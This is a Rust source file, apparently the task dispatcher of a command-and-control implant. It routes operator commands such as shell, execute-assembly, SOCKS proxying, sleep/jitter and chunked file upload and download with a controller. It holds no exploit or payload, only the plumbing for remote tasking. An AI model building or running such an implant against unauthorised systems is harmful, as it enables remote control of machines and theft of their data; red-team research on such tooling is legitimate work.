//! Job registry and dispatcher.
//!
//! Routes every task to its handler, owns the aggregation buffer of
//! produced results and drives the transfer continuation state machines.
//! Commands that belong to external lifecycle managers only raise a
//! [`Notification`] and retire their job.

use crate::{
    Error, Result,
    context::AppContext,
    hook::{ExecutionOutput, Hook, PluginLoader, ShellOutput},
    job::{Job, JobRegistry},
    notify::{Notification, Notifier},
    transfer::{DownloadHandler, UploadHandler},
    utils::param,
};
use base64::{Engine, engine::general_purpose::STANDARD};
use compact_str::CompactString;
use parking_lot::Mutex;
use protocol::{
    DownloadResponse, JobSummary, MORE_CHUNKS, PieceResponse, Response, ResponseResult, Task,
    UploadResponse,
};
use serde::Deserialize;
use std::sync::Arc;

/// What a continuation step decided for its transfer.
enum Step {
    /// The transfer goes on.
    Continue(Response),
    /// The transfer is over; tear it down after responding.
    Finish(Response),
}

#[derive(Deserialize)]
struct SocksParams {
    action: CompactString,
}

/// The command handler: job registry, dispatch table and result buffer.
pub struct Dispatcher<H: Hook> {
    registry: JobRegistry,
    uploads: UploadHandler,
    downloads: DownloadHandler,
    results: Mutex<Vec<Response>>,
    plugins: H::Plugins,
    execution: H::Execution,
    shell: H::Shell,
    notifier: Notifier,
}

impl<H: Hook> Dispatcher<H> {
    /// Build a dispatcher from the application context and its subsystems.
    pub fn new(
        ctx: &AppContext,
        plugins: H::Plugins,
        execution: H::Execution,
        shell: H::Shell,
    ) -> Self {
        let chunk_size = ctx.config.transfer.chunk_size;
        Self {
            registry: JobRegistry::new(ctx.shutdown.clone()),
            uploads: UploadHandler::new(chunk_size),
            downloads: DownloadHandler::new(chunk_size),
            results: Mutex::new(Vec::new()),
            plugins,
            execution,
            shell,
            notifier: ctx.notifier.clone(),
        }
    }

    /// The job registry.
    pub fn registry(&self) -> &JobRegistry {
        &self.registry
    }

    /// The plugin subsystem.
    pub fn plugins(&self) -> &H::Plugins {
        &self.plugins
    }

    /// Register a task (or reuse its job) and route it.
    ///
    /// A task id that is already registered is not routed again.
    pub async fn submit(&self, task: Task) {
        let (job, created) = self.registry.get_or_add(task);
        if !created {
            tracing::debug!("task {} already registered, ignoring", job.id());
            return;
        }

        job.mark_started();
        let command = job.task.command.clone();
        tracing::info!("dispatching task {} ({command})", job.id());
        match command.as_str() {
            "download" => self.start_download(&job).await,
            "upload" => self.start_upload(&job).await,
            "execute-assembly" => {
                let result = self.execution.execute(&job).await;
                if result.completed {
                    self.retire(job.id());
                }
                self.push(result);
            }
            "exit" => self.raise(Notification::ExitRequested(job)),
            "jobs" => {
                self.push(self.list_jobs(&job));
                self.retire(job.id());
            }
            "jobkill" => {
                self.push(self.kill(&job));
                self.retire(job.id());
            }
            "link" => self.raise(Notification::StartForwarder(job)),
            "unlink" => self.raise(Notification::StopForwarder(job)),
            "load" => {
                self.push(self.plugins.load(&job).await);
                self.retire(job.id());
            }
            "load-assembly" => {
                self.push(self.plugins.load_bulk(&job).await);
                self.retire(job.id());
            }
            "reset-assembly-context" => {
                self.push(self.plugins.reset_context(&job).await);
                self.retire(job.id());
            }
            "shell" => {
                self.push(self.shell.exec(&job).await);
                self.retire(job.id());
            }
            "sleep" => self.raise(Notification::SetSleepAndJitter(job)),
            "socks" => self.socks(job),
            "stop-assembly" => {
                self.push(self.stop_assembly(&job));
                self.retire(job.id());
            }
            _ => {
                let result = if self.plugins.is_loaded(&command) {
                    self.plugins.run(&job).await
                } else {
                    Error::PluginNotLoaded(command.clone()).into_response(job.id())
                };
                self.push(result);
                self.retire(job.id());
            }
        }
    }

    /// Cancel an active job and retire it.
    ///
    /// Succeeds for jobs that already finished; fails only for ids that
    /// were never registered.
    pub fn cancel(&self, task_id: &str) -> Result<()> {
        if let Some(job) = self.registry.retire(task_id) {
            job.cancel_handle().cancel();
            tracing::info!("cancelled job {task_id}");
            return Ok(());
        }
        if self.registry.was_retired(task_id) {
            tracing::debug!("job {task_id} already finished");
            return Ok(());
        }
        Err(Error::JobNotFound(task_id.into()))
    }

    /// Drain every buffered result, merging output pulled from the
    /// asynchronous subsystems at this moment.
    pub async fn collect_results(&self) -> Vec<Response> {
        let mut responses = std::mem::take(&mut *self.results.lock());

        if self.execution.is_running() {
            let output = self.execution.get_output().await;
            if !output.task_id.is_empty() {
                if output.completed {
                    self.retire(&output.task_id);
                }
                responses.push(output.into());
            }
        }

        if self.shell.has_running_jobs() {
            responses.extend(self.shell.get_output().await.into_iter().map(Response::from));
        }

        responses
    }

    /// Queue a result produced outside the dispatcher.
    pub fn add_response(&self, response: impl Into<Response>) {
        self.push(response);
    }

    /// Queue several results, preserving their order.
    pub fn add_responses(&self, responses: impl IntoIterator<Item = Response>) {
        self.results.lock().extend(responses);
    }

    pub fn has_upload_job(&self, task_id: &str) -> bool {
        self.uploads.contains_job(task_id)
    }

    pub fn has_download_job(&self, task_id: &str) -> bool {
        self.downloads.contains_job(task_id)
    }

    /// Advance an upload with a piece sent by the controller.
    pub async fn handle_upload_piece(&self, piece: PieceResponse) {
        let task_id = piece.task_id.clone();
        let step = match self.uploads.get_job(&task_id) {
            Ok(entry) => {
                let mut job = entry.lock().await;
                self.upload_step(&mut job, &piece).await
            }
            Err(e) => {
                tracing::warn!("upload piece for unknown task {task_id}");
                self.push(e.into_response(task_id));
                return;
            }
        };
        self.finish_step(step, &task_id, true).await;
    }

    /// Advance a download with a piece sent by the controller.
    pub async fn handle_download_piece(&self, piece: PieceResponse) {
        let task_id = piece.task_id.clone();
        let step = match self.downloads.get_job(&task_id) {
            Ok(entry) => {
                let mut job = entry.lock().await;
                self.download_step(&mut job, &piece).await
            }
            Err(e) => {
                tracing::warn!("download piece for unknown task {task_id}");
                self.push(e.into_response(task_id));
                return;
            }
        };
        self.finish_step(step, &task_id, false).await;
    }

    fn push(&self, response: impl Into<Response>) {
        self.results.lock().push(response.into());
    }

    fn retire(&self, task_id: &str) {
        if self.registry.retire(task_id).is_some() {
            tracing::debug!("retired job {task_id}");
        }
    }

    fn raise(&self, notification: Notification) {
        let task_id = notification.job().task.id.clone();
        self.notifier.notify(notification);
        self.retire(&task_id);
    }

    async fn start_download(&self, job: &Arc<Job>) {
        if self.downloads.contains_job(job.id()) {
            return;
        }
        match self.downloads.start_download_job(job).await {
            Ok(announcement) => self.push(announcement),
            Err(Error::TransferExists(_)) => {}
            Err(e) => {
                tracing::warn!("download {} failed to start: {e}", job.id());
                self.push(e.into_response(job.id()));
                self.retire(job.id());
            }
        }
    }

    async fn start_upload(&self, job: &Arc<Job>) {
        if self.uploads.contains_job(job.id()) {
            return;
        }
        match self.uploads.start_upload_job(job).await {
            Ok(request) => self.push(request),
            Err(Error::TransferExists(_)) => {}
            Err(e) => {
                tracing::warn!("upload {} failed to start: {e}", job.id());
                self.push(e.into_response(job.id()));
                self.retire(job.id());
            }
        }
    }

    fn list_jobs(&self, job: &Job) -> ResponseResult {
        let listing: Vec<JobSummary> = self.registry.snapshot(job.id());
        match serde_json::to_string_pretty(&listing) {
            Ok(output) => ResponseResult::done(job.id(), output),
            Err(e) => ResponseResult::error(job.id(), format!("failed to list jobs: {e}")),
        }
    }

    fn kill(&self, job: &Job) -> ResponseResult {
        let target = target_id(&job.task.parameters);
        match self.cancel(&target) {
            Ok(()) => ResponseResult::done(job.id(), "Cancelled job"),
            Err(e) => e.into_response(job.id()),
        }
    }

    fn socks(&self, job: Arc<Job>) {
        match serde_json::from_str::<SocksParams>(&job.task.parameters) {
            Ok(params) if params.action == "start" => {
                self.raise(Notification::StartSocks(job));
            }
            Ok(_) => self.raise(Notification::StopSocks(job)),
            Err(e) => {
                let err = Error::InvalidParameters(e.to_string());
                self.push(err.into_response(job.id()));
                self.retire(job.id());
            }
        }
    }

    fn stop_assembly(&self, job: &Job) -> ResponseResult {
        let running = self.registry.by_command("execute-assembly");
        if running.is_empty() {
            return ResponseResult::error(job.id(), "No assembly is running");
        }
        let cancelled = running
            .iter()
            .filter(|target| match self.cancel(target.id()) {
                Ok(()) => true,
                Err(e) => {
                    tracing::debug!("stop-assembly skipped {}: {e}", target.id());
                    false
                }
            })
            .count();
        ResponseResult::done(job.id(), format!("Cancelled {cancelled} assembly job(s)"))
    }

    async fn upload_step(
        &self,
        job: &mut crate::transfer::UploadJob,
        piece: &PieceResponse,
    ) -> Step {
        let task_id = job.task_id.clone();
        if job.cancel.is_cancelled() {
            return Step::Finish(ResponseResult::error(task_id, "Upload cancelled").into());
        }
        if piece.is_error() {
            return Step::Finish(
                ResponseResult::error(task_id, "Controller reported an error for this upload")
                    .into(),
            );
        }

        if job.total_chunks.is_none() {
            job.total_chunks = piece.total_chunks;
        }
        if let Some(file_id) = piece.file_id()
            && job.file_id.is_empty()
        {
            job.file_id = file_id.into();
        }

        if piece.chunk_data.is_empty() {
            let err = Error::TransferProtocol("No data received to upload".into());
            return Step::Finish(err.into_response(task_id).into());
        }

        if let Some(total) = job.total_chunks
            && (piece.chunk_num > total || job.chunk_num >= total)
        {
            let err = Error::TransferProtocol(format!(
                "Chunk {} does not fit an upload of {total} chunks",
                piece.chunk_num
            ));
            return Step::Finish(err.into_response(task_id).into());
        }
        // Pieces are appended, so they must arrive strictly in order.
        if piece.chunk_num != job.chunk_num + 1 {
            let err = Error::TransferProtocol(format!(
                "Expected chunk {} but received chunk {}",
                job.chunk_num + 1,
                piece.chunk_num
            ));
            return Step::Finish(err.into_response(task_id).into());
        }

        let bytes = match STANDARD.decode(piece.chunk_data.trim()) {
            Ok(bytes) => bytes,
            Err(e) => {
                let err = Error::TransferProtocol(format!(
                    "Chunk {} is not base64: {e}",
                    piece.chunk_num
                ));
                return Step::Finish(err.into_response(task_id).into());
            }
        };
        if let Err(e) = self.uploads.upload_next_chunk(job, &bytes).await {
            return Step::Finish(e.into_response(task_id).into());
        }
        job.chunk_num += 1;

        if job.total_chunks == Some(piece.chunk_num) {
            tracing::info!("upload {task_id} received all {} chunks", job.chunk_num);
            Step::Finish(
                UploadResponse {
                    result: ResponseResult::done(task_id, ""),
                    upload: job.request(job.chunk_num),
                }
                .into(),
            )
        } else {
            Step::Continue(
                UploadResponse {
                    result: ResponseResult::partial(task_id, ""),
                    upload: job.request(job.chunk_num + 1),
                }
                .into(),
            )
        }
    }

    async fn download_step(
        &self,
        job: &mut crate::transfer::DownloadJob,
        piece: &PieceResponse,
    ) -> Step {
        let task_id = job.task_id.clone();
        if job.cancel.is_cancelled() {
            return Step::Finish(ResponseResult::error(task_id, "Download cancelled").into());
        }
        if job.file_id.is_none() {
            match piece.file_id() {
                Some(file_id) => job.file_id = Some(file_id.into()),
                None => {
                    let err = Error::TransferProtocol("No file_id received".into());
                    return Step::Finish(err.into_response(task_id).into());
                }
            }
        }

        if !piece.is_success() {
            tracing::debug!("download {task_id} resending chunk {}", job.chunk_num);
            return match self.downloads.download_next_chunk(job).await {
                Ok(chunk_data) => {
                    let announcement = job.chunk_num == 0;
                    Step::Continue(
                        DownloadResponse {
                            result: ResponseResult::partial(task_id, ""),
                            file_id: job.file_id.clone(),
                            chunk_num: job.chunk_num,
                            chunk_data,
                            total_chunks: if announcement {
                                job.total_chunks as i64
                            } else {
                                MORE_CHUNKS
                            },
                            full_path: if announcement {
                                job.full_path.clone()
                            } else {
                                String::new()
                            },
                        }
                        .into(),
                    )
                }
                Err(e) => Step::Finish(e.into_response(task_id).into()),
            };
        }

        if job.chunk_num < job.total_chunks {
            job.chunk_num += 1;
        }
        let chunk_data = match self.downloads.download_next_chunk(job).await {
            Ok(chunk_data) => chunk_data,
            Err(e) => return Step::Finish(e.into_response(task_id).into()),
        };

        if job.is_complete() {
            tracing::info!("download {task_id} sent all {} chunks", job.total_chunks);
            Step::Finish(
                DownloadResponse {
                    result: ResponseResult::done(task_id, ""),
                    file_id: job.file_id.clone(),
                    chunk_num: job.chunk_num,
                    chunk_data,
                    total_chunks: job.total_chunks as i64,
                    full_path: job.full_path.clone(),
                }
                .into(),
            )
        } else {
            Step::Continue(
                DownloadResponse {
                    result: ResponseResult::partial(task_id, ""),
                    file_id: job.file_id.clone(),
                    chunk_num: job.chunk_num,
                    chunk_data,
                    total_chunks: MORE_CHUNKS,
                    full_path: String::new(),
                }
                .into(),
            )
        }
    }

    async fn finish_step(&self, step: Step, task_id: &str, upload: bool) {
        match step {
            Step::Continue(response) => self.push(response),
            Step::Finish(response) => {
                if upload {
                    self.uploads.complete_job(task_id).await;
                } else {
                    self.downloads.complete_job(task_id).await;
                }
                self.retire(task_id);
                self.push(response);
            }
        }
    }
}

/// Target task id of a `jobkill`, given raw or as `{"id": ...}`.
fn target_id(parameters: &str) -> CompactString {
    let trimmed = parameters.trim();
    serde_json::from_str::<serde_json::Value>(trimmed)
        .ok()
        .and_then(|v| param(&v, &["id", "task_id"]).map(CompactString::from))
        .unwrap_or_else(|| trimmed.into())
}
